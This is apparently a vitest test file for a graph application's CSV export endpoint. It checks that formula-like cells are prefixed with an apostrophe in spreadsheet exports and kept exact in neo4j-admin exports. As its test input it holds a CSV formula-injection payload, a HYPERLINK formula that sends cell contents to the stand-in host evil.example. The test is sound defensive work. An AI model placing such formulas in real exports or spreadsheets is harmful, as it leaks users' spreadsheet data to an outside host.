// CSV formula injection through /api/export: a name a spreadsheet would run as a formula is written
// with an apostrophe in front in the spreadsheet export, and exactly as stored in the neo4j-admin one.
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../../server/src/server.js';
import { startTestApp } from '../support/app.js';
import { getDriver } from '../support/neo4j.js';

const hostileName = '=HYPERLINK("http://evil.example/?"&A1,"Chen")';
const hostileAlias = '@SUM(1+1)';

describe('GET /api/export CSV and spreadsheets', () => {
  let app: RunningServer;
  let original: { name: string; aliases: string[] };

  beforeAll(async () => {
    app = await startTestApp();
    const { records } = await getDriver().executeQuery(
      "MATCH (e:Entity {id: 'chen-quanguo'}) RETURN e.name AS name, e.aliases AS aliases",
    );
    original = { name: String(records[0]!.get('name')), aliases: records[0]!.get('aliases') as string[] };
    await getDriver().executeQuery(
      "MATCH (e:Entity {id: 'chen-quanguo'}) SET e.name = $name, e.aliases = [$alias] + e.aliases",
      { name: hostileName, alias: hostileAlias },
    );
  });
  afterAll(async () => {
    await getDriver().executeQuery(
      "MATCH (e:Entity {id: 'chen-quanguo'}) SET e.name = $name, e.aliases = $aliases",
      original,
    );
    await app.close(1_000);
  });

  async function nodesCsv(format: string): Promise<{ csv: string; readme: string; name: string | null }> {
    const response = await fetch(`${app.url}/api/export?format=${format}&types=Person`);
    expect(response.status).toBe(200);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    return {
      csv: strFromU8(files['nodes.csv']!),
      readme: strFromU8(files['README.txt']!),
      name: response.headers.get('content-disposition'),
    };
  }

  it('neutralises formula cells in format=csv-spreadsheet', async () => {
    const { csv, readme, name } = await nodesCsv('csv-spreadsheet');
    expect(name).toContain('trove-graph-spreadsheet.zip');
    // Quoted because of the comma and quotes; the apostrophe comes first inside the quotes.
    expect(csv).toContain(`"'${hostileName.replaceAll('"', '""')}"`);
    expect(csv).toContain(`'${hostileAlias}`);
    expect(csv).not.toMatch(/(^|,)"?[=@]/m);
    expect(readme).toMatch(/apostrophe/);
  });

  it('keeps format=csv exact for neo4j-admin, and says so', async () => {
    const { csv, readme } = await nodesCsv('csv');
    expect(csv).toContain(`"${hostileName.replaceAll('"', '""')}"`);
    expect(csv).not.toContain(`'${hostileName}`);
    expect(readme).toMatch(/neo4j-admin database import/);
    expect(readme).toMatch(/csv-spreadsheet/);
  });
});
